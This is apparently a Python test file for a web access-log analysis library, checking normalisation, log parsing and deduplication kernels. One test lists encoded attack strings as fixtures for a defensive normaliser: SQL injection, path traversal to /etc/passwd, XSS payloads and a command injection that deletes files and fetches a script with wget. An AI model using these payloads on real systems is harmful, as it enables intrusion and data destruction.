"""The numba kernels against the reference implementations."""

from __future__ import annotations

import re
from datetime import datetime

import numpy as np
from hypothesis import given, settings
from hypothesis import strategies as st

from renkei.logs import kernels
from renkei.logs.normalise import normalise

ALPHABET = list(b"%uU0123456789abcdefABCDEFxX\\\"&#;ltgquopsam/*!+ \t\n\r\x0b\x0c'<>.-=?")
ALPHABET += [0x00, 0xA0, 0xC0, 0xC1, 0xC2, 0xE0, 0xEF, 0xBC, 0xBD, 0x80, 0x9E, 0xAF, 0xBF, 0xFF]


def kernel_normalise(values: list[bytes]) -> list[bytes]:
    buf = np.frombuffer(b"".join(values) or b"\0", dtype=np.uint8)
    spans, offset = [], 0
    for value in values:
        spans.append((offset, offset + len(value)))
        offset += len(value)
    text, starts = kernels.normalise_fields(buf, np.array(spans, dtype=np.int64).reshape(-1, 2), False)
    data = bytes(text)
    return [data[starts[k] : starts[k + 1] - 1] for k in range(len(values))]


@settings(max_examples=400, deadline=None)
@given(st.lists(st.lists(st.sampled_from(ALPHABET), max_size=60).map(bytes), min_size=1, max_size=8))
def test_kernel_normalise_equals_reference(values: list[bytes]) -> None:
    assert kernel_normalise(values) == [normalise(v) for v in values]


@settings(max_examples=200, deadline=None)
@given(st.lists(st.binary(max_size=80), min_size=1, max_size=5))
def test_kernel_normalise_equals_reference_on_any_bytes(values: list[bytes]) -> None:
    assert kernel_normalise(values) == [normalise(v) for v in values]


def test_known_evasions_normalise() -> None:
    cases = {
        b"/item.php?id=1%2527%20UNION/**/SeLeCt%091,2--": b"/item.php?id=1' union select 1,2--",
        b"/%c0%af..%c0%af..%c0%afetc/passwd": b"//../../etc/passwd",
        b"/?q=%u003cscript%u003e": b"/?q=<script>",
        b"&#x3C;img src=x onerror=alert(1)&gt;": b"<img src=x onerror=alert(1)>",
        b"/*!50000union*/+select": b" union select",
        b"..\\..\\windows\\win.ini": b"../../windows/win.ini",
        b"%252e%252e%252f": b"../",
        b"\\x22onmouseover\\x3d": b'"onmouseover=',
        b"cmd=rm%20-rf%20/tmp/*;wget%20http://x/*.sh": b"cmd=rm -rf /tmp/*;wget http://x/*.sh",
        b"1'/**/or/*x*/1=1/*": b"1' or 1=1/*",
    }
    for raw, expected in cases.items():
        assert normalise(raw) == expected
        assert kernel_normalise([raw]) == [expected]


CLF = re.compile(
    rb'^(\S+) \S+ \S+ \[([^\]]+)\] "(\S+) (\S+) (\S+)" (\d{3}) (\d+|-) "([^"]*)" "([^"]*)"$')

line_parts = st.tuples(
    st.from_regex(r"\A[0-9a-f:.]{1,39}\Z"),
    st.datetimes(min_value=datetime(1971, 1, 1), max_value=datetime(2100, 1, 1)),
    st.sampled_from(["GET", "POST", "HEAD", "PROPFIND"]),
    st.from_regex(r"\A/[!-~]{0,60}\Z").filter(lambda t: '"' not in t and "\\" not in t and " " not in t),
    st.integers(100, 599),
    st.one_of(st.none(), st.integers(0, 10**12)),
    st.from_regex(r'\A[ -~]{0,40}\Z').filter(lambda t: '"' not in t and "\\" not in t),
)


@settings(max_examples=200, deadline=None)
@given(st.lists(line_parts, min_size=1, max_size=20))
def test_parse_matches_regex_parser(parts: list[tuple]) -> None:  # type: ignore[type-arg]
    lines = []
    for src, when, method, target, status, size, agent in parts:
        stamp = when.strftime("%d/%b/%Y:%H:%M:%S +0900")
        lines.append(f'{src} - - [{stamp}] "{method} {target} HTTP/1.1" {status} '
                     f'{"-" if size is None else size} "-" "{agent}"'.encode())
    buf = np.frombuffer(b"\n".join(lines) + b"\n", dtype=np.uint8)
    start, _end, spans, status, size, epoch, error = kernels.parse_access_lines(buf, 1 << 20)
    assert len(start) == len(lines)
    for k, line in enumerate(lines):
        m = CLF.match(line)
        assert m is not None
        assert error[k] == kernels.OK
        assert bytes(buf[spans[k, kernels.SRC, 0] : spans[k, kernels.SRC, 1]]) == m.group(1)
        assert bytes(buf[spans[k, kernels.TARGET, 0] : spans[k, kernels.TARGET, 1]]) == m.group(4)
        assert bytes(buf[spans[k, kernels.UA, 0] : spans[k, kernels.UA, 1]]) == m.group(9)
        assert status[k] == int(m.group(6))
        assert size[k] == (-1 if m.group(7) == b"-" else int(m.group(7)))
        expected = datetime.strptime(m.group(2).decode(), "%d/%b/%Y:%H:%M:%S %z").timestamp()
        assert epoch[k] == int(expected)


def test_parse_reports_each_kind_of_broken_line() -> None:
    lines = [
        b"",
        b"garbage without fields",
        b'1.2.3.4 - - [99/Foo/2020:00:00:00 +0000] "GET / HTTP/1.1" 200 1',
        b'1.2.3.4 - - [10/Oct/2020:00:00:00 +0000] GET / HTTP/1.1 200 1',
        b'1.2.3.4 - - [10/Oct/2020:00:00:00 +0000] "GET / HTTP/1.1" abc 1',
        b'1.2.3.4 - - [10/Oct/2020:00:00:00 +0000] "GET / HTTP/1.1" 200 12x',
        b'1.2.3.4 - - [10/Oct/2020:00:00:00 +0000] "GET /\\"quoted\\" HTTP/1.1" 200 -',
    ]
    buf = np.frombuffer(b"\n".join(lines), dtype=np.uint8)
    *_, error = kernels.parse_access_lines(buf, 1 << 20)
    assert error.tolist() == [kernels.BLANK, kernels.NO_TIME, kernels.BAD_TIME,
                              kernels.NO_REQUEST, kernels.BAD_STATUS, kernels.BAD_SIZE, kernels.OK]


def test_dedupe_is_exact() -> None:
    values = [b"alpha", b"beta", b"alpha", b"", b"beta", b"gamma" * 10]
    buf = np.frombuffer(b"".join(values), dtype=np.uint8)
    spans, offset = [], 0
    for value in values:
        spans.append((offset, offset + len(value)))
        offset += len(value)
    spans.append((-1, -1))
    _hashes, first, inverse = kernels.dedupe_spans(buf, np.array(spans, dtype=np.int64), -1)
    assert inverse.tolist() == [0, 1, 0, 2, 1, 3, 4]
    assert first.tolist() == [0, 1, 3, 5, 6]


@settings(max_examples=100, deadline=None)
@given(st.lists(st.binary(max_size=20), min_size=1, max_size=40))
def test_dedupe_groups_equal_values(values: list[bytes]) -> None:
    buf = np.frombuffer(b"".join(values) or b"\0", dtype=np.uint8)
    spans, offset = [], 0
    for value in values:
        spans.append((offset, offset + len(value)))
        offset += len(value)
    _, first, inverse = kernels.dedupe_spans(buf, np.array(spans, dtype=np.int64), -1)
    for k, value in enumerate(values):
        assert values[first[inverse[k]]] == value
    assert len(first) == len(set(values))
